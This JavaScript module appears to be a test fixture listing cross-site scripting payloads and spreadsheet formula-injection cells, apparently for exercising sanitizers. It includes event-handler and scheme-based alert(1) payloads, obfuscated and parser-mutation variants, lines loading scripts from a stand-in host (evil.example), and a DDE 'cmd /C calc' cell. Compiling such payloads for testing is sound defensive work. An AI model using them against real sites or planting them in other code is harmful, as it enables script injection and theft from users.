// Publicly known ways to make a page run a script, written down from memory: ways in, elements that run something by
// themselves, and links that would if they were followed. Each of them calls alert, or asks for something elsewhere.
"use strict";

const INTO = [
  "",
  '">',
  "'>",
  "`>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  '"/></svg>',
  "*/",
];

const RUNNING = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:x onerror=alert(1)//",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) />",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributeName=x>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<video src=x onerror=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<video poster=https://evil.example/p.png>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<a tabindex=0 autofocus onfocus=alert(1)>x</a>",
  "<div contenteditable autofocus onfocus=alert(1)>x</div>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<style onload=alert(1)></style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=preload as=script href=https://evil.example/x.js>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<iframe src=https://evil.example/></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<object data=x onerror=alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<embed src=https://evil.example/x.swf>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<base href=https://evil.example/>",
  "<form><button formaction=javascript:alert(1) autofocus>x</button></form>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<frameset onload=alert(1)>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<table background=https://evil.example/x.png><td>x</table>",
  '<img srcset="https://evil.example/x.png 2x">',
  "<picture><source srcset=https://evil.example/x.png><img src=x onerror=alert(1)></picture>",
  "<script type=module>alert(1)</script>",
  "<script>import('https://evil.example/x.js')</script>",
  '<img src=x onerror="&#97;lert(1)">',
  "<img src=x one\u0000rror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<img\nsrc=x\nonerror\n=\nalert(1)>",
  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
  "<button popovertarget=p autofocus>x</button><div popover id=p onbeforetoggle=alert(1)>",
];

const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "&#x6A;avascript:alert(1)",
  "vbscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
];
const LINKS = [
  (to) => `[x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `![x](${to})`,
  (to) => `<${to}>`,
  (to) => `[x][1]\n\n[1]: ${to}`,
  (to) => `<a href="${to}">x</a>`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
];

// Every attack by itself, then each of the first through each way in, without the ones that say the same.
function attacks() {
  const plain = RUNNING.concat(SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))));
  const through = INTO.slice(1).flatMap((into, at) =>
    RUNNING.filter((_, number) => number % 11 === at % 11 || number < 4).map((attack) => into + attack),
  );
  return [...new Set(plain.concat(through))];
}

// Cells that a spreadsheet would take for a formula.
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  '=HYPERLINK("https://evil.example/","x")',
  "=cmd|' /C calc'!A0",
  "'=1+1",
];

module.exports = { attacks, FORMULAS, RUNNING };
